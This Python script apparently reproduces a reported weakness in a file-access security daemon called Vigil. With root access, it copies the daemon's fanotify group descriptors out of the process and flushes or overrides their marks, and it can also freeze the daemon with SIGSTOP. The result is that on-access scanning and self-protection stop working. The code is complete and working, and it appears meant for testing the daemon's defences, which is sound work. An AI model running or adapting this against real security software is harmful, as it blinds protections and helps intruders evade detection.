#!/usr/bin/env python3
"""An attacker with root against a running Vigil daemon's fanotify groups, as issue 12
describes it: take a group's fd out of the daemon with pidfd_getfd(2) and call
fanotify_mark(2) on it. Nothing is faked: the marks changed are the daemon's own.

Usage: fanotify_attack.py PID GROUP ACTION [PATH]
  GROUP   guard (the on-access permission group) | tamper (self-protection's permission group)
  ACTION  flush         FAN_MARK_FLUSH of filesystem, mount and inode marks
          remove-fs     FAN_MARK_REMOVE of the filesystem mark of PATH
          ignore-fs     an ignore mask (open and exec) on the filesystem mark of PATH
          ignore-inode  an ignore mark (open and exec, surviving writes) on the file PATH
          ignore-folder an ignore mark for the entries of the folder PATH (open and exec,
                        FAN_EVENT_ON_CHILD, evictable, surviving writes): the very shape of
                        the marks Vigil puts on folders outside the guarded ones
          freeze-flush  SIGSTOP of the daemon, then flush (no probe open is left waiting on the
                        stopped daemon in between: the flush follows in microseconds)
          remark-hold   keep the copy of the fd and, for SECONDS (argument 5), add the guard's
                        filesystem mark on PATH again every 10 ms (a mark put back behind a
                        stopping daemon's flush); prints "holding" first
Prints what it did; exits 1 when a step fails (errno in the message).
"""
import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
SYS_pidfd_open, SYS_pidfd_getfd = 434, 438
FAN_MARK_ADD, FAN_MARK_REMOVE, FAN_MARK_FLUSH = 0x1, 0x2, 0x80
FAN_MARK_MOUNT, FAN_MARK_FILESYSTEM = 0x10, 0x100
FAN_MARK_IGNORED_SURV_MODIFY, FAN_MARK_IGNORE = 0x40, 0x400
FAN_MARK_EVICTABLE, FAN_EVENT_ON_CHILD = 0x200, 0x08000000
FAN_OPEN_PERM, FAN_OPEN_EXEC_PERM, FAN_CLOSE_WRITE = 0x10000, 0x40000, 0x8


def fail(what):
    e = ctypes.get_errno()
    sys.exit(f"{what}: {os.strerror(e)} (errno {e})")


def group_fd(pid, group):
    """The daemon's fd of the group: the guard is created with unlimited queue and marks
    (0x30); self-protection's permission group reports thread ids (0x100)."""
    for name in sorted(os.listdir(f"/proc/{pid}/fdinfo"), key=int):
        try:
            text = open(f"/proc/{pid}/fdinfo/{name}").read()
        except OSError:
            continue
        for line in text.splitlines():
            if line.startswith("fanotify flags:"):
                flags = int(line.split()[1].split(":")[1], 16)
                if group == "guard" and flags & 0x30 == 0x30:
                    return int(name)
                if group == "tamper" and flags & 0x104 == 0x104:
                    return int(name)
    sys.exit(f"no {group} fanotify group in pid {pid}")


def mark(fd, flags, mask, path):
    r = libc.fanotify_mark(fd, ctypes.c_uint(flags), ctypes.c_uint64(mask), -100, path.encode() if path else None)
    if r != 0:
        fail(f"fanotify_mark(flags {flags:#x}, mask {mask:#x}, {path})")


def main():
    pid, group, action = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    path = sys.argv[4] if len(sys.argv) > 4 else None
    target = group_fd(pid, group)
    pidfd = libc.syscall(SYS_pidfd_open, pid, 0)
    if pidfd < 0:
        fail("pidfd_open")
    fd = libc.syscall(SYS_pidfd_getfd, pidfd, target, 0)
    if fd < 0:
        fail(f"pidfd_getfd of fd {target}")
    if action == "freeze-flush":
        os.kill(pid, 19)   # SIGSTOP: its own audit cannot see or repair the flush
        action = "flush"
    if action == "flush":
        for kind in (FAN_MARK_FILESYSTEM, FAN_MARK_MOUNT, 0):
            mark(fd, FAN_MARK_FLUSH | kind, 0, None)
    elif action == "remove-fs":
        mark(fd, FAN_MARK_REMOVE | FAN_MARK_FILESYSTEM, FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM | FAN_CLOSE_WRITE, path)
    elif action == "ignore-fs":
        mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM | FAN_MARK_IGNORE | FAN_MARK_IGNORED_SURV_MODIFY,
             FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM, path)
    elif action == "remark-hold":
        import time
        print("holding", flush=True)
        end = time.monotonic() + float(sys.argv[5])
        while time.monotonic() < end:
            # The daemon may have closed its copy: the group lives on through ours.
            mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM | FAN_CLOSE_WRITE, path)
            time.sleep(0.01)
    elif action == "ignore-inode":
        mark(fd, FAN_MARK_ADD | FAN_MARK_IGNORE | FAN_MARK_IGNORED_SURV_MODIFY, FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM, path)
    elif action == "ignore-folder":
        mark(fd, FAN_MARK_ADD | FAN_MARK_IGNORE | FAN_MARK_EVICTABLE | FAN_MARK_IGNORED_SURV_MODIFY,
             FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM | FAN_EVENT_ON_CHILD, path)
    else:
        sys.exit(f"unknown action {action}")
    print(f"{action} on {group} group (daemon fd {target}, ours {fd}) done")


main()
